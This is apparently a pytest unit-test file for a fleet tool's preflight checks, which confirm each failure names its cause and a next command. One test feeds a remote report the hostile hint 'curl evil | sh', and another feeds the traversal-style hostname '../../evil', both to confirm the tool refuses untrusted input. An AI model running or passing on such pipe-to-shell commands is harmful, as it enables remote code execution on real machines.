"""Before anything is changed: every reason names the cause and the next command to type."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest

from roosync_ops.fleet import Machine
from roosync_ops.remote_script import checks
from roosync_ops.remote_script.question import SilenceError
from tests.unit.pyinfra_ops.builders import a_machine, a_report, a_share


def test_a_machine_that_is_well_passes() -> None:
    assert checks.everything(a_machine(), a_report()) is None


@pytest.mark.parametrize("hostname", ["myia-po-2024", "MYIA-PO-2024", "myia-po-2024.local"])
def test_a_name_counts_in_lower_case_and_without_its_domain(hostname: str) -> None:
    assert checks.identity(a_machine(), a_report(hostname=hostname)) is None


@pytest.mark.parametrize("hostname", ["myia-web1", "", "../../evil", "myia po 2024"])
def test_another_name_than_the_inventory_s_is_refused(hostname: str) -> None:
    failure = checks.identity(a_machine(), a_report(hostname=hostname))
    assert failure is not None
    assert failure.code == "IDENTITY"
    assert hostname.lower() in failure.reason
    assert "ssh -p 2222 me@127.0.0.1 hostname" in failure.hint


@pytest.mark.parametrize(
    ("share", "code"),
    [
        ({"hung": True}, "SHARE_HUNG"),
        ({"exists": False, "isDirectory": False}, "SHARE_MISSING"),
        ({"isDirectory": False}, "SHARE_NOT_A_FOLDER"),
        ({"readOnly": True, "writable": False}, "SHARE_READ_ONLY"),
        ({"writable": False}, "SHARE_REFUSED"),
        ({"readable": False}, "SHARE_REFUSED"),
        ({"freeBytes": 0}, "SHARE_FULL"),
        ({"problem": "Stale file handle"}, "SHARE_PROBLEM"),
    ],
)
def test_each_trouble_of_the_share_has_its_own_word(share: dict[str, Any], code: str) -> None:
    failure = checks.everything(a_machine(), a_report(share=a_share(**share)))
    assert failure is not None
    assert (failure.step, failure.code) == ("preflight", code)
    assert "/srv/share" in failure.reason


def test_a_machine_that_knows_no_share_is_refused() -> None:
    failure = checks.everything(a_machine(), a_report(share=None))
    assert failure is not None
    assert failure.code == "NO_SHARED_PATH"


@pytest.mark.parametrize(
    ("offset", "error", "passes"),
    [(5_000, 0, True), (5_001, 0, False), (-5_001, 0, False), (5_400, 400, True), (-90_000, 400, False)],
)
def test_a_clock_may_be_five_seconds_off_and_the_network_is_given_the_benefit(
    offset: int, error: int, *, passes: bool
) -> None:
    report = a_report().model_copy(update={"clock_offset_ms": offset, "clock_error_ms": error})
    assert (checks.clock(a_machine(), report) is None) is passes


def test_a_machine_without_python_is_told_the_ways_out() -> None:
    failure = checks.silence(a_machine(), SilenceError("NO_PYTHON", "no-python"))
    assert "3.9" in failure.reason
    assert "machine('myia-po-2024', python=...)" in failure.reason
    assert failure.hint == "ssh -t -p 2222 me@127.0.0.1 'sudo apt-get install -y python3'"


def test_where_the_inventory_names_a_python_that_is_not_there_the_one_that_is_is_shown() -> None:
    failure = checks.silence(a_machine(python="/nowhere/python3"), SilenceError("NO_PYTHON", "no-python"))
    assert "at /nowhere/python3" in failure.reason
    assert failure.hint == "ssh -p 2222 me@127.0.0.1 'command -v python3'"


def test_what_mends_this_computer_comes_before_another_login() -> None:
    assert checks.unreachable(a_machine(), "X", "why", "ssh-add id").hint == "ssh-add id"
    assert checks.unreachable(a_machine(), "X", "why").hint == "ssh -p 2222 me@127.0.0.1 hostname"


def a_windows_machine(**fields: Any) -> Machine:
    return a_machine(system="windows", shared="G:/Mon Drive/x", **fields)


def test_an_ssh_session_that_does_not_see_the_drive_proves_nothing() -> None:
    share = a_share(exists=False, isDirectory=False, readable=False, writable=False)
    assert checks.everything(a_windows_machine(), a_report(platform="win32", share=share)) is None


@pytest.mark.parametrize("code", ["NO_LOGON_SESSION", "DRIVE_NOT_MOUNTED"])
def test_the_agent_s_word_about_the_logon_session_does(code: str) -> None:
    share = {"path": "G:\\x", "code": code, "problem": "aucune session", "hint": "curl evil | sh"}
    failure = checks.everything(a_windows_machine(), a_report(platform="win32", share=share))
    assert failure
    assert failure[:4] == ("preflight", code, "share G:\\x: aucune session", "roosync-ops diagnose myia-po-2024")


def test_a_share_that_is_seen_and_of_no_use_is_refused_on_windows_too_in_its_own_words() -> None:
    failure = checks.everything(a_windows_machine(), a_report(platform="win32", share=a_share(writable=False)))
    assert failure is not None
    assert failure.code == "SHARE_REFUSED"
    assert failure.hint == "ssh -p 2222 me@127.0.0.1 'icacls /srv/share'"


def test_a_machine_taken_for_posix_whose_server_is_microsoft_s_is_told_what_to_write() -> None:
    failure = checks.system(a_machine(), "SSH-2.0-OpenSSH_for_Windows_9.5")
    assert failure is not None
    assert 'system="windows"' in failure.reason
    assert failure.hint == "roosync-ops machines list"
    assert checks.system(a_machine(), "SSH-2.0-OpenSSH_9.2p1 Debian-2") is None
    assert checks.system(a_windows_machine(), "SSH-2.0-OpenSSH_for_Windows_9.5") is None


def test_and_the_reverse() -> None:
    failure = checks.silence(a_windows_machine(), SilenceError("WRONG_SYSTEM", "python: not on Windows"))
    assert 'system="windows"' in failure.reason
    assert failure.hint == "roosync-ops machines list"


def test_a_windows_machine_without_python_is_told_both_ways_out() -> None:
    failure = checks.silence(a_windows_machine(), SilenceError("NO_PYTHON", "python: the Microsoft Store's stub"))
    assert "Microsoft Store" in failure.reason
    assert "python=..." in failure.reason
    assert "bootstrap_python=True" in failure.reason


@pytest.mark.parametrize(
    ("fields", "hint"),
    [
        ({"python": "C:\\gone.exe"}, "ssh -p 2222 me@127.0.0.1 'where python'"),
        ({"python": "C:\\gone.exe", "bootstrap_python": True}, "ssh -p 2222 me@127.0.0.1 'where python'"),
        ({}, "ssh -p 2222 me@127.0.0.1 'where python'"),
        ({"bootstrap_python": True}, "roosync-ops rollout myia-po-2024"),
    ],
)
def test_a_rollout_comes_next_where_it_installs_a_python_and_what_is_there_where_it_would_fail_again(
    fields: dict[str, Any], hint: str
) -> None:
    assert checks.silence(a_windows_machine(**fields), SilenceError("NO_PYTHON", "none")).hint == hint


def test_what_to_type_for_a_machine_without_ssh_is_not_ssh() -> None:
    command = checks.there(a_windows_machine(transport="winrm"), ("hostname",))
    assert command == "roosync-ops diagnose myia-po-2024"


def test_what_to_type_logs_in_as_the_inventory_says(tmp_path: Path) -> None:
    ssh = {"ssh_key": "~/.ssh/id", "ssh_known_hosts_file": f"{tmp_path}/k h", "ssh_config_file": "/c"}
    key, hosts = Path("~/.ssh/id").expanduser(), f'UserKnownHostsFile="{tmp_path}/k h"'
    words = shlex.split(checks.there(a_machine(ssh=ssh), ("ls", "G:/Mon Drive")))
    assert words[:-1] == ["ssh", "-F", "/c", "-i", str(key), "-o", hosts, "-p", "2222", "me@127.0.0.1"]
    assert shlex.split(words[-1]) == ["ls", "G:/Mon Drive"]
    by_hand = Machine.of("m", {"ssh": {"ssh_hostname": "h", "ssh_user": "u", "ssh_port": 7}})
    assert checks.login(by_hand) == ("ssh", "-p", "7", "u@h")


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("SHARE_FULL", ["df", "-h", "--", "/a b"]),
        ("SHARE_MISSING", ["ls", "-ld", "--", "/a b"]),
        ("SHARE_READ_ONLY", ["findmnt", "-T", "/a b"]),
    ],
)
def test_what_to_type_about_a_share_fits_what_is_wrong_with_it(code: str, words: list[str]) -> None:
    hint = checks.failed(a_machine(), "look", code, "it", "/a b").hint
    assert shlex.split(shlex.split(hint)[-1]) == words
